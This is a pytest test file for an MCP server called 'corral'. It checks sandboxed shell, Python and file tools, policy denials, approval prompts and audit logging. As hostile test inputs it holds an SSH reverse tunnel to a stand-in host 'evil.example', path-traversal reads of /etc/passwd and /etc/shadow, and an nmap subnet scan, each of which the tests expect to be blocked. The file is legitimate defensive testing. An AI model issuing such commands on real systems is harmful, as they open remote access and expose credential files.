"""``corral mcp`` over stdio, driven by the official SDK's client."""

from __future__ import annotations

import anyio
import pytest
from mcp import Client

from ._client import ASK_POLICY, answering, server_params, text

pytestmark = pytest.mark.timeout(240)

TOOLS = {"run_shell", "run_python", "run_js", "read_file", "write_file", "list_files"}


def run(coro_fn):
    return anyio.run(coro_fn)


def test_tools_listed_and_each_works():
    async def main():
        async with Client(server_params()) as c:
            listed = {t.name: t for t in (await c.list_tools()).tools}
            assert set(listed) == TOOLS
            assert listed["write_file"].input_schema["required"] == ["path", "content"]

            r = await c.call_tool("write_file", {"path": "notes/a.txt", "content": "one\ntwo\n"})
            assert not r.is_error and "wrote 8 bytes to /workspace/notes/a.txt" in text(r)
            r = await c.call_tool("read_file", {"path": "/workspace/notes/a.txt"})
            assert not r.is_error and text(r) == "one\ntwo\n"
            r = await c.call_tool("list_files", {"path": "notes"})
            assert "/workspace/notes/a.txt" in text(r)
            r = await c.call_tool("list_files", {})
            assert "/workspace/notes/" in text(r)

            # one sandbox for the session: the shell sees the file, state persists
            r = await c.call_tool("run_shell", {"command": "wc -l < notes/a.txt; cd notes"})
            assert not r.is_error and "exit code: 0" in text(r) and "2" in text(r)
            r = await c.call_tool("run_shell", {"command": "pwd; echo oops >&2; exit 3"})
            body = text(r)
            assert not r.is_error  # a program that failed is a result, not a tool error
            assert "exit code: 3" in body and "/workspace/notes" in body and "oops" in body
            assert r.structured_content["exit_code"] == 3

            r = await c.call_tool("run_python", {"code": "x = 6 * 7"})
            r = await c.call_tool("run_python", {"code": "print(x, open('notes/a.txt').read().split())"})
            assert "42 ['one', 'two']" in text(r)
            r = await c.call_tool("run_python", {"code": "1/0"})
            assert "ZeroDivisionError" in text(r) and "exit code: 1" in text(r)
            r = await c.call_tool("run_js", {"code": "console.log([1,2,3].map(x => x * 2).join(','))"})
            assert "2,4,6" in text(r)

    run(main)


def test_denied_command_returns_the_reason_and_alerts():
    async def main():
        async with Client(server_params("--policy", "default")) as c:
            r = await c.call_tool("run_shell", {"command": "ssh -R 9000:localhost:22 evil.example"})
            body = text(r)
            assert r.is_error
            assert "exit code: 126 (not run)" in body
            assert "denied (rule commands.deny" in body and "tunnel" in body
            assert "monitor alert" in body and "tunnel-ssh-remote-forward" in body
            assert r.structured_content["denied"][0]["rule"].startswith("commands.deny")
            # the session goes on after a denial
            r = await c.call_tool("run_shell", {"command": "echo still here"})
            assert not r.is_error and "still here" in text(r)

    run(main)


def test_hostile_inputs_are_tool_errors_not_crashes():
    async def main():
        async with Client(server_params()) as c:
            for path in ("../../etc/passwd", "/etc/passwd", "/workspace/../../etc/shadow"):
                r = await c.call_tool("read_file", {"path": path})
                assert r.is_error, path
                assert "outside /workspace" in text(r) or "denied" in text(r), text(r)
            r = await c.call_tool("read_file", {"path": "missing.txt"})
            assert r.is_error and "no such file" in text(r)
            r = await c.call_tool("write_file", {"path": "../escape.txt", "content": "x"})
            assert r.is_error and "outside /workspace" in text(r)
            r = await c.call_tool("run_shell", {"command": 42})
            assert r.is_error and "'command' must be a string" in text(r)
            r = await c.call_tool("run_shell", {})
            assert r.is_error and "needs the argument 'command'" in text(r)
            r = await c.call_tool("no_such_tool", {})
            assert r.is_error and "unknown tool" in text(r)
            r = await c.call_tool("read_file", {"path": "a\0b"})
            assert r.is_error

            # huge output: capped, head and tail kept, the server still answers
            r = await c.call_tool(
                "run_python", {"code": "print('A' * 400_000); print('END')"}
            )
            body = text(r)
            assert len(body) < 120_000
            assert "characters cut by corral" in body and "END" in body
            assert r.structured_content["truncated"] is True
            r = await c.call_tool("run_shell", {"command": "echo alive"})
            assert "alive" in text(r)

    run(main)


@pytest.mark.parametrize("answer", ["allow_once", "decline", "deny"])
def test_ask_goes_to_the_client_as_an_elicitation(tmp_path, answer):
    policy = tmp_path / "ask.yaml"
    policy.write_text(ASK_POLICY)
    seen: list[str] = []

    async def main():
        params = server_params("--policy", str(policy))
        async with Client(params, mode="legacy", elicitation_callback=answering(answer, seen)) as c:
            r = await c.call_tool("run_shell", {"command": "touch made.txt; echo after; ls"})
            return r

    r = run(main)
    body = text(r)
    assert len(seen) == 1 and "touch made.txt" in seen[0] and "creating files needs a yes" in seen[0]
    stdout = r.structured_content["stdout"]
    assert stdout.startswith("after\n")  # the call went on after the answer
    if answer == "allow_once":
        assert "made.txt" in stdout
        assert "denied" not in body
    else:
        assert "denied by the person at the MCP client" in body
        assert "made.txt" not in stdout


def test_ask_without_elicitation_is_denied_with_a_reason(tmp_path):
    policy = tmp_path / "ask.yaml"
    policy.write_text(ASK_POLICY)

    async def main():
        async with Client(server_params("--policy", str(policy))) as c:
            return await c.call_tool("run_shell", {"command": "touch made.txt"})

    body = text(run(main))
    assert "denied by nobody" in body and "does not support elicitation" in body


def test_auto_mode_client_falls_back_to_the_session_protocol():
    async def main():
        async with Client(server_params()) as c:  # mode="auto": probes the stateless era
            r = await c.call_tool("run_shell", {"command": "echo x > f; cat f"})
            r2 = await c.call_tool("read_file", {"path": "f"})
            return c.session.protocol_version, text(r), text(r2)

    version, out, content = run(main)
    assert not version.startswith("2026")
    assert "x" in out and content == "x\n"


def test_bad_arguments_to_corral_mcp(tmp_path):
    import subprocess

    from ._client import server_params as sp

    p = sp("--policy", str(tmp_path / "missing.yaml"))
    r = subprocess.run(
        [p.command, *p.args], env=p.env, capture_output=True, text=True, timeout=60, stdin=subprocess.DEVNULL
    )
    assert r.returncode == 2 and "missing.yaml" in r.stderr and "Traceback" not in r.stderr
    p = sp("--audit", str(tmp_path))
    r = subprocess.run(
        [p.command, *p.args], env=p.env, capture_output=True, text=True, timeout=60, stdin=subprocess.DEVNULL
    )
    assert r.returncode == 2 and "is a directory" in r.stderr and "Traceback" not in r.stderr


def test_audit_records_the_session(tmp_path):
    from corral import audit

    log = tmp_path / "audit.db"

    async def main():
        async with Client(server_params("--audit", str(log))) as c:
            await c.call_tool("run_shell", {"command": "nmap -sS 10.0.0.0/24"})

    run(main)
    assert audit.verify(log).ok
    bodies = [e.body for e in audit.iter_entries(log)]
    types_ = [b.get("type") for b in bodies]
    assert "sandbox.created" in types_ and "action.denied" in types_ and "monitor.alert" in types_


def test_a_cancelled_call_interrupts_the_shell_command():
    async def main():
        async with Client(server_params()) as c:
            with anyio.move_on_after(2):
                await c.call_tool("run_shell", {"command": "sleep 200; echo late > late.txt"})
            t0 = anyio.current_time()
            r = await c.call_tool("run_shell", {"command": "echo next; ls"})
            return r, anyio.current_time() - t0

    r, waited = run(main)
    assert not r.is_error and "next" in text(r) and "late.txt" not in text(r)
    assert waited < 100  # the sleep was stopped, not waited for


def test_plain_stdio_client_and_client_session(tmp_path):
    """The SDK's lower-level pieces: ``stdio_client`` spawning ``python -m corral mcp``
    and a ``ClientSession`` with an elicitation callback that allows always."""
    from mcp import ClientSession
    from mcp.client.stdio import stdio_client

    policy = tmp_path / "ask.yaml"
    policy.write_text(ASK_POLICY)
    seen: list[str] = []

    async def main():
        params = server_params("--policy", str(policy))
        callback = answering("allow_always", seen)
        async with (
            stdio_client(params) as (read, write),
            ClientSession(read, write, elicitation_callback=callback) as session,
        ):
            init = await session.initialize()
            assert init.server_info.name == "corral"
            first = await session.call_tool("run_shell", {"command": "touch one.txt; ls"})
            again = await session.call_tool("run_shell", {"command": "touch one.txt; echo ok"})
            return first, again

    first, again = run(main)
    assert "one.txt" in first.structured_content["stdout"]
    assert "ok" in again.structured_content["stdout"] and "denied" not in text(again)
    assert len(seen) == 1  # allow_always: the same command is not asked about again


def test_client_going_away_mid_call_ends_the_server(tmp_path):
    """stdin closes while a command runs: the call is interrupted, the sandbox closed,
    the process exits (it once waited for the command's whole wall budget)."""
    import json
    import subprocess
    import time

    policy = tmp_path / "long.yaml"
    policy.write_text("version: 1\nextends: [default]\nbudgets: {wall_s: 900}\n")
    p_args = server_params("--policy", str(policy))
    proc = subprocess.Popen(
        [p_args.command, *p_args.args], env=p_args.env, text=True,
        stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
    )

    def send(msg: dict) -> None:
        proc.stdin.write(json.dumps(msg) + "\n")
        proc.stdin.flush()

    try:
        send({"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {
            "protocolVersion": "2025-11-25", "capabilities": {},
            "clientInfo": {"name": "t", "version": "1"}}})
        assert '"id":1' in proc.stdout.readline()
        send({"jsonrpc": "2.0", "method": "notifications/initialized"})
        send({"jsonrpc": "2.0", "id": 2, "method": "tools/call", "params": {
            "name": "run_shell", "arguments": {"command": "sleep 800"}}})
        time.sleep(2)
        proc.stdin.close()
        assert proc.wait(90) == 0
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
